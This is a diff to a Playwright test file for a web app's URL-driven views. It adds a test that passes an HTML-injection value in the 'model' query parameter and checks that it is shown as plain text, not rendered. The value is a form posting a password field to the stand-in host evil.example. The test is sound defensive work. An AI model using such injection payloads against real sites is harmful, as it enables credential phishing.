@@ -1,6 +1,7 @@
 """Links: the address follows the view, and opens the very picture elsewhere."""
 
 import re
+from urllib.parse import quote
 
 import numpy as np
 import pytest
@@ -103,3 +104,11 @@ def test_a_link_of_the_first_app_opens_its_run(train_page: Page) -> None:
     expect(train_page.locator(".status")).to_have_attribute("data-run", run)
     expect(train_page.locator(".status")).to_have_attribute("data-state", "finished")
     assert np.array_equal(settled(train_page, "train-stage"), seen)
+
+
+def test_what_a_link_says_is_text_in_a_notice(page: Page) -> None:
+    page.goto("/?model=" + quote("<form action=//evil.example><input name=pw>nobody</form>"))
+    notice = page.get_by_test_id("toast-body").first
+    expect(notice).to_contain_text("<form action=//evil.example>")
+    expect(notice).to_contain_text("choose one of")  # the rest of the sentence is there too
+    expect(page.locator("form[action*=evil], input[name=pw]")).to_have_count(0)
